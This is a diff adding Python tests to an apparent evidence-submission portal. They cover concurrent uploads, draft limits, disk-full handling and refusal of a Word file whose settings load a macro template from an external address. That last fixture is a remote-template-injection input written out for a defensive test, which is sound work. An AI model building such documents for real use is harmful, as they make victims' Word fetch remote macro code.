@@ -508,3 +508,131 @@ def test_the_council_writes_its_own_notice(app, second_case, smtp, run_jobs, mon
     assert "What stays confidential" not in notice.text
     page = BeautifulSoup(browser.get("/portal/privacy-notice").text, "html.parser")
     assert page.h1.text == "Privacy and publication notice" and page.h2.text == "Our promise"
+
+
+# ---- limits that must hold when requests arrive together ----
+
+def _clients_of(app, browser, count):
+    """Test clients sharing the witness's session, one per thread."""
+    clients = []
+    for _ in range(count):
+        client = app.test_client()
+        for cookie in browser.client._cookies.values():
+            client.set_cookie(cookie.key, cookie.value, domain=cookie.domain, path=cookie.path)
+        clients.append(client)
+    return clients
+
+
+def _all_at_once(calls):
+    """Run each call in its own thread, released together; their results in order."""
+    import threading
+
+    barrier = threading.Barrier(len(calls))
+    results = [None] * len(calls)
+
+    def run(i, call):
+        barrier.wait()
+        results[i] = call()
+
+    threads = [threading.Thread(target=run, args=(i, call)) for i, call in enumerate(calls)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+    return results
+
+
+def test_thirty_uploads_at_once_to_one_draft_keep_only_twenty_files(app, second_case, smtp, run_jobs):
+    from sqlalchemy import func
+
+    from scrutiny.evidence.models import EvidenceFile
+
+    browser, _, landing, _ = _witness(app, smtp, run_jobs)
+    draft = _draft(browser, landing)
+    token = csrf_token(browser.get(draft).text)
+    pdf = make_pdf()
+
+    def upload(client, i):
+        data = {"csrf_token": token, "title": "My evidence", "kind": "written", "summary": "Kept summary",
+                "files": [(io.BytesIO(pdf), f"part {i}.pdf")]}
+        return lambda: client.post(draft, data=data, content_type="multipart/form-data")
+
+    responses = _all_at_once([upload(c, i) for i, c in enumerate(_clients_of(app, browser, 30))])
+
+    with app.app_context():
+        assert db.session.scalar(select(func.count()).select_from(EvidenceFile)) == 20
+    assert len(_stored_files(app)) == 20  # the refused ten left nothing behind
+    assert sorted(r.status_code for r in responses) == [200] * 10 + [302] * 20
+    for page in (r for r in responses if r.status_code == 200):
+        summary = BeautifulSoup(page.text, "html.parser").select_one(".govuk-error-summary").text
+        assert "was not added: a piece of evidence can have at most 20 files" in summary
+
+
+def test_pressing_add_evidence_forty_times_at_once_makes_one_draft(app, second_case, smtp, run_jobs):
+    from scrutiny.evidence.models import Submission
+
+    browser, _, landing, _ = _witness(app, smtp, run_jobs)
+    token = csrf_token(browser.get(landing).text)
+
+    def add(client):
+        return lambda: client.post(f"{landing}/evidence", data={"csrf_token": token})
+
+    responses = _all_at_once([add(c) for c in _clients_of(app, browser, 40)])
+
+    assert {r.status_code for r in responses} == {302}
+    assert len({r.headers["Location"] for r in responses}) == 1  # all sent to the same draft
+    with app.app_context():
+        assert len(db.session.scalars(select(Submission)).all()) == 1
+
+
+def test_a_started_draft_is_kept_and_add_evidence_starts_another_up_to_the_limit(app, second_case, smtp, run_jobs):
+    browser, _, landing, _ = _witness(app, smtp, run_jobs)
+    first = _draft(browser, landing)
+    assert _post_files(browser, first, []).status_code == 302  # given a title: no longer untouched
+    second = _draft(browser, landing)
+    assert second != first and _draft(browser, landing) == second  # the untouched one is reopened
+
+    saved = app.config["MAX_DRAFTS_PER_INVITATION"]
+    app.config["MAX_DRAFTS_PER_INVITATION"] = 2
+    try:
+        assert _post_files(browser, second, []).status_code == 302
+        page = browser.submit(f"{landing}/evidence", {}, form_page=landing, follow=True)
+    finally:
+        app.config["MAX_DRAFTS_PER_INVITATION"] = saved
+    assert "You already have 2 drafts that are not submitted yet." in page.text
+
+
+def test_a_full_disk_keeps_nothing_and_says_to_try_again(app, second_case, smtp, run_jobs, monkeypatch):
+    import errno
+
+    from scrutiny import storage as storage_module
+    from scrutiny.evidence.models import EvidenceFile
+
+    browser, _, landing, _ = _witness(app, smtp, run_jobs)
+    draft = _draft(browser, landing)
+
+    def no_space(fd):
+        raise OSError(errno.ENOSPC, "No space left on device")
+
+    monkeypatch.setattr(storage_module.os, "fsync", no_space)  # the bytes written, then the disk is full
+    page = _post_files(browser, draft, [("evidence.pdf", make_pdf())])
+    monkeypatch.undo()
+
+    soup = BeautifulSoup(page.text, "html.parser")
+    _assert_refused(page, soup, "evidence.pdf", ["We could not save your file", "Nothing was kept; please try "
+                                                 "again later."], app)
+    with app.app_context():
+        assert db.session.scalars(select(EvidenceFile)).all() == []
+    assert _stored_files(app) == []
+
+
+def test_an_office_file_that_loads_a_template_from_outside_is_refused(app, second_case, smtp, run_jobs):
+    entries = ooxml_entries("docx")
+    entries["word/_rels/settings.xml.rels"] = (
+        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
+        b'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
+        b'2006/relationships/attachedTemplate" Target="http://198.51.100.7/t.dotm" TargetMode="External"/>'
+        b'</Relationships>')
+    page, soup, *_ = _refusal(app, smtp, run_jobs, [("statement.docx", make_zip(entries))])
+    _assert_refused(page, soup, "statement.docx", ["loads something from outside the file"], app)
+    assert _stored_files(app) == []
